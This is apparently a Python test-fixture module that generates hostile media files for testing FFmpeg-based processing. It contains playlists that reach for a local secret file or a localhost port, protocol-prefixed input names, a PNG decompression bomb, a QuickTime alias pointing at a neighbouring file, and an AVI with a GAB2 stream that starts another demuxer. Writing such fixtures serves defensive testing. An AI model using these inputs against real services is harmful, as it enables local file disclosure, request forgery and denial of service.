"""Files that attack when they are played: playlists with false names, bombs, wrong headers."""

from __future__ import annotations

import struct
import zlib
from fractions import Fraction
from pathlib import Path

import av
import numpy as np

SECRET = "secret.txt"


def playlists(port: int) -> dict[str, str]:
    """Return texts that FFmpeg would follow to a neighbouring file, a port or an absolute path, by name."""
    url = f"http://127.0.0.1:{port}/x.ts"
    sdp = (
        "v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\n"
        f"m=video {port} RTP/AVP 96\na=rtpmap:96 H264/90000\n"
    )
    dash = (
        '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" '
        'mediaPresentationDuration="PT1S"><Period><AdaptationSet mimeType="video/mp4"><Representation id="1" '
        f"bandwidth='1'><BaseURL>{url}</BaseURL></Representation></AdaptationSet></Period></MPD>"
    )
    return {
        "ffconcat to a text": f"ffconcat version 1.0\nfile {SECRET}\n",
        "ffconcat to a video": "ffconcat version 1.0\nfile neighbour.mp4\n",
        "ffconcat to a port": f"ffconcat version 1.0\nfile {url}\n",
        "ffconcat after a blank": f"\nffconcat version 1.0\nfile {SECRET}\n",
        "HLS to a video": "#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXTINF:1,\nneighbour.mp4\n#EXT-X-ENDLIST\n",
        "HLS to a port": f"#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXTINF:1,\n{url}\n#EXT-X-ENDLIST\n",
        "HLS with a key": (
            f'#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXT-X-KEY:METHOD=AES-128,URI="{SECRET}"\n'
            "#EXTINF:1,\nneighbour.mp4\n#EXT-X-ENDLIST\n"
        ),
        "DASH to a port": dash,
        "SDP": sdp,
        "text shown by tty": "any text at all\n" * 40,
        "IMF": '<?xml version="1.0"?><CompositionPlaylist xmlns="http://www.smpte-ra.org/schemas/2067-3/2016"/>',
        "RTSP reference": f"[Reference]\nRef1=http://127.0.0.1:{port}/x?MSWMExt=.asf\n",
        "WPL": f'<asx version="3.0"><entry><ref href="http://127.0.0.1:{port}/x"/></entry></asx>',
    }


def addresses(port: int) -> list[str]:
    """Return names that FFmpeg would interpret as protocols."""
    host = f"127.0.0.1:{port}"
    network = [
        "http",
        "https",
        "tcp",
        "udp",
        "rtsp",
        "rtmp",
        "rtp",
        "ftp",
        "gopher",
        "srtp",
        "tls",
        "mmsh",
        "icecast",
    ]
    return [
        *(f"{scheme}://{host}/x.mp4" for scheme in network),
        f"hls+http://{host}/x.m3u8",
        f"unix:{host}",
        "concat:neighbour.mp4",
        "concatf:list.txt",
        "async:neighbour.mp4",
        "cache:neighbour.mp4",
        "crypto:neighbour.mp4",
        "subfile,,start,0,end,0,,:neighbour.mp4",
        "md5:out",
        "data:video/mp4;base64,AAAA",
        "pipe:0",
        "fd:",
        "lavfi:testsrc",
    ]


def png_bomb(side: int) -> bytes:
    """Return a PNG of `side` x `side` RGBA in one colour, a thousandth of
    its decoded size; `side` in thousands."""
    row = bytes(1 + 4 * side)
    packer = zlib.compressobj(9)
    part = packer.compress(row * 500) + packer.flush(
        zlib.Z_FULL_FLUSH
    )  # the state of the compressor no longer changes
    end = zlib.compressobj(9, zlib.DEFLATED, -15).flush()
    sum_of_zeros = (len(row) * side % 65521) << 16 | 1  # Adler-32
    data = part[:2] + part[2:] * (side // 500) + end + struct.pack(">I", sum_of_zeros)
    head = struct.pack(">IIBBBBB", side, side, 8, 6, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", head) + _chunk(b"IDAT", data) + _chunk(b"IEND", b"")


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def in_mov(path: Path, png: bytes, *, side: int) -> Path:
    """Write a film of one PNG frame, whose header declares `side` pixels."""
    with av.open(str(path), "w") as box:
        stream = box.add_stream("png", rate=25)
        stream.width, stream.height, stream.pix_fmt = side, side, "rgba"
        box.start_encoding()
        packet = av.Packet(png)
        packet.stream, packet.time_base, packet.is_keyframe = stream, Fraction(1, 25), True
        packet.pts = packet.dts = 0
        packet.duration = 1
        box.mux_one(packet)
    return path


def atom_field(data: bytes, kind: bytes, offset: int, value: bytes) -> bytes:
    """Return the file with bytes replaced in the first atom of a kind, at an offset after its name."""
    place = data.index(kind) + len(kind) + offset
    return data[:place] + value + data[place + len(value) :]


_PARENTS = (b"moov", b"trak", b"mdia", b"minf", b"dinf", b"dref")


def refer_to(movie: Path, neighbour: str) -> None:
    """Change a QuickTime movie with its index at the end so that its frames lie in another file."""
    data = bytearray(movie.read_bytes())
    entry = data.index(b"dref") + 12
    old, new = struct.unpack_from(">I", data, entry)[0], _alias(f"/folder/{neighbour}".encode())
    for name in _PARENTS:
        place = data.index(name) - 4
        struct.pack_into(">I", data, place, struct.unpack_from(">I", data, place)[0] + len(new) - old)
    data[entry : entry + old] = new
    movie.write_bytes(data)


def _alias(path: bytes) -> bytes:
    """Return a Macintosh alias record, as FFmpeg reads it, to a file in the movie's own folder."""
    levels = struct.pack(">HH", 1, 1)
    tag = struct.pack(">HH", 2, len(path)) + path + bytes(len(path) % 2) + struct.pack(">hH", -1, 0)
    record = bytes(130) + levels + bytes(16) + tag
    return struct.pack(">I4sI", 12 + len(record), b"alis", 0) + record


def avi_with_gab2(path: Path, text: str) -> None:
    """Write an AVI whose second stream is one packet of GAB2, text
    for which FFmpeg starts another demuxer."""
    content = text.encode()
    blob = b"GAB2\0" + struct.pack("<HI4sHI", 2, 4, "s\0".encode("utf-16-le"), 4, len(content)) + content
    samples = np.frombuffer(blob + b"\n" * (-len(blob) % 4), np.int16).reshape(1, -1)
    with av.open(str(path), "w", format="avi") as box:
        video, sound = box.add_stream("mpeg4", rate=25), box.add_stream("pcm_s16le", rate=8000)
        video.width, video.height, sound.layout = 64, 64, "mono"
        for number in range(3):
            gray = av.VideoFrame.from_ndarray(np.full((64, 64), 40 * number, np.uint8), "gray")
            box.mux(video.encode(gray.reformat(format="yuv420p", threads=1)))
        frame = av.AudioFrame.from_ndarray(samples, "s16", "mono")
        frame.sample_rate = 8000
        box.mux([*video.encode(None), *sound.encode(frame), *sound.encode(None)])
    path.write_bytes(
        path.read_bytes().replace(b"auds", b"txts")
    )  # changes the stream type from audio to text
